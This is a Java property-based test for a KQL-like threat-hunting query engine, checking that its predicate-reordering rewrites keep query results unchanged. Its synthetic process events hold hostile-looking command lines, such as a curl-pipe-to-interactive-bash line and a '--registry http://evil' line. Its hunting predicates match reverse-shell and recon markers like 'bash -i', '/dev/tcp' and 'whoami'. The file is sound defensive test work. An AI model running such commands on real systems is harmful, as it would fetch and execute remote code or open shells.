package dev.hookline.kql.eval;

import dev.hookline.kql.expr.Node;
import dev.hookline.kql.expr.Nodes;
import dev.hookline.kql.expr.Order;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.kql.CompiledQuery;
import dev.hookline.kql.ResultTable;
import dev.hookline.kql.StreamingQuery;
import dev.hookline.kql.TableSource;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.SplittableRandom;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;

/**
 * The compile-time rewrites never change a result: putting and/or terms and where filters in cost order
 * ({@link Order}) and merging or-lists of one string test on one column ({@link Nodes#mergeOrOfStrOps}). Random
 * predicates (nested and/or/not over string, has, has_any, contains, startswith, endswith, in~, numeric and datetime
 * comparisons, with null and empty columns) over a random event corpus give the same streaming matches, the same
 * rows and the same hunting results as the query as written.
 */
class CostOrderKeepsResultsTest {
    private static final long NOW = 1_700_000_000_000_000_000L;
    private static final long HOUR = 3_600_000_000_000L;

    private static final String[] NAMES = {null, "", "bash", "sh", "node", "NODE.EXE", "cmd.exe", "python3.11",
        "curl", "npm-cli.js"};
    private static final String[] CMDS = {null, "", "sh -c 'curl http://x | bash -i'", "node install.js",
        "bash -interactive", "/tmp/x --registry http://evil", "python3 -m pip install -r req.txt", "CMD.EXE /c whoami"};
    private static final String[] ACTIONS = {null, "ProcessCreated", "FileCreated"};

    private static final String[] ATOMS = {
        "FileName has_any (\"cmd.exe\", \"bash\", \"node\")",
        "ProcessCommandLine has \"bash -i\"",
        "ProcessCommandLine has_any (\"/tmp\", \"curl http\", \"whoami\")",
        "InitiatingProcessFileName in~ (\"NODE\", \"python3.11\", \"sh\")",
        "InitiatingProcessFileName !in (\"bash\")",
        "FileName == \"bash\"",
        "FileName != \"sh\"",
        "FileName =~ \"node.exe\"",
        "ProcessId > 100",
        "ProcessId == 7",
        "ProcessId != 7",
        "ProcessId in (7, 200)",
        "Timestamp > ago(2h)",
        "Timestamp <= ago(1h)",
        "Timestamp == datetime(2023-11-14T22:13:20Z)",
        "isempty(FileName)",
        "isnotempty(ProcessCommandLine)",
        "ProcessCommandLine contains \"TMP\"",
        "ProcessCommandLine contains \"curl \"",
        "ProcessCommandLine contains \"\"",
        "ProcessCommandLine contains_cs \"sh\"",
        "ProcessCommandLine !contains \"pip\"",
        "ProcessCommandLine endswith \"whoami\"",
        "ProcessCommandLine endswith \"req.txt\"",
        "FileName endswith \".exe\"",
        "FileName endswith \"sh\"",
        "FileName startswith \"py\"",
        "FileName startswith \"NODE\"",
        "FileName contains \"od\"",
        "FileName has \"exe\"",
        "FileName has \"node\"",
        "InitiatingProcessFileName contains \"od\"",
        "ProcessCommandLine startswith \"sh\"",
        "ActionType == \"ProcessCreated\"",
        "InitiatingProcessId >= ProcessId",
        "strlen(ProcessCommandLine) > 10",
        "true",
        "false",
    };

    @Property(tries = 400)
    void costOrderGivesTheSameMatchesRowsAndResults(@ForAll long seed) {
        SplittableRandom r = new SplittableRandom(seed);
        List<Event> events = corpus(r, 60);
        String query = "DeviceProcessEvents"
                + " | where " + predicate(r, 3)
                + " | where " + predicate(r, 2)
                + " | where " + predicate(r, 2)
                + " | extend X = " + predicate(r, 2)
                + " | where X or " + predicate(r, 2)
                + " | where " + predicate(r, 1)
                + " | project FileName, ProcessId, X, Y = " + predicate(r, 2);
        CompiledQuery ordered = QueryCompiler.compile(query, true);
        CompiledQuery asWritten = QueryCompiler.compile(query, false);
        assertEquals(streamed(asWritten, events), streamed(ordered, events), query);
        assertEquals(rows(asWritten.run(source(events), NOW)), rows(ordered.run(source(events), NOW)), query);
    }

    /** The rewrite really happens on the seeds' shape: the time window moves behind the column tests. */
    @Test
    void timeWindowGoesLastAndShortColumnListsFirst() {
        Node[] terms = {
            compile("Timestamp > ago(24h)"),
            compile("ProcessCommandLine has_any (\"bash -i\", \"/dev/tcp\")"),
            compile("InitiatingProcessFileName in~ (\"npm\", \"node\")"),
        };
        Node[] ordered = Order.forAnd(terms);
        assertTrue(ordered[0] == terms[2] && ordered[1] == terms[1] && ordered[2] == terms[0],
                Arrays.toString(ordered));
    }

    private static Node compile(String expr) {
        return new ExprCompiler(Schema.ofTable(Table.DeviceProcessEvents), new CompileContext())
                .compileBool(dev.hookline.kql.parse.Parser.parseExpression(expr), "test");
    }

    private static String predicate(SplittableRandom r, int depth) {
        int k = depth == 0 ? 0 : r.nextInt(4);
        switch (k) {
            case 1:
            case 2: {
                int n = 2 + r.nextInt(3);
                StringBuilder sb = new StringBuilder("(");
                for (int i = 0; i < n; i++) {
                    if (i > 0) {
                        sb.append(k == 1 ? " and " : " or ");
                    }
                    sb.append(predicate(r, depth - 1));
                }
                return sb.append(')').toString();
            }
            case 3:
                return "not(" + predicate(r, depth - 1) + ")";
            default:
                return ATOMS[r.nextInt(ATOMS.length)];
        }
    }

    private static List<Event> corpus(SplittableRandom r, int n) {
        List<Event> out = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            Event e = new Event(Table.DeviceProcessEvents);
            e.set(Columns.FILE_NAME, pick(r, NAMES));
            e.set(Columns.INITIATING_PROCESS_FILE_NAME, pick(r, NAMES));
            e.set(Columns.PROCESS_COMMAND_LINE, pick(r, CMDS));
            e.set(Columns.ACTION_TYPE, pick(r, ACTIONS));
            e.set(Columns.PROCESS_ID, pickLong(r, 7, 200, 50));
            e.set(Columns.INITIATING_PROCESS_ID, pickLong(r, 7, 200, 50));
            e.set(Columns.TIMESTAMP, pickLong(r, NOW - 3 * HOUR, NOW - HOUR, NOW - 30 * 60_000_000_000L));
            out.add(e);
        }
        return out;
    }

    private static String pick(SplittableRandom r, String[] values) {
        return values[r.nextInt(values.length)];
    }

    /** One of the values or null (a quarter of the time). */
    private static long pickLong(SplittableRandom r, long... values) {
        return r.nextInt(4) == 0 ? Event.NULL : values[r.nextInt(values.length)];
    }

    private static List<String> streamed(CompiledQuery q, List<Event> events) {
        StreamingQuery s = q.streaming();
        List<String> out = new ArrayList<>();
        for (int i = 0; i < events.size(); i++) {
            int index = i;
            s.accept(events.get(i), NOW, (arm, ev, row) -> out.add(index + ":" + arm.name() + Arrays.toString(row)));
        }
        return out;
    }

    private static List<String> rows(ResultTable t) {
        List<String> out = new ArrayList<>();
        for (Object[] row : t.rows()) {
            out.add(Arrays.toString(row));
        }
        return out;
    }

    private static TableSource source(List<Event> events) {
        return (table, consumer) -> {
            for (Event e : events) {
                if (e.table() == table) {
                    consumer.accept(e);
                }
            }
        };
    }
}
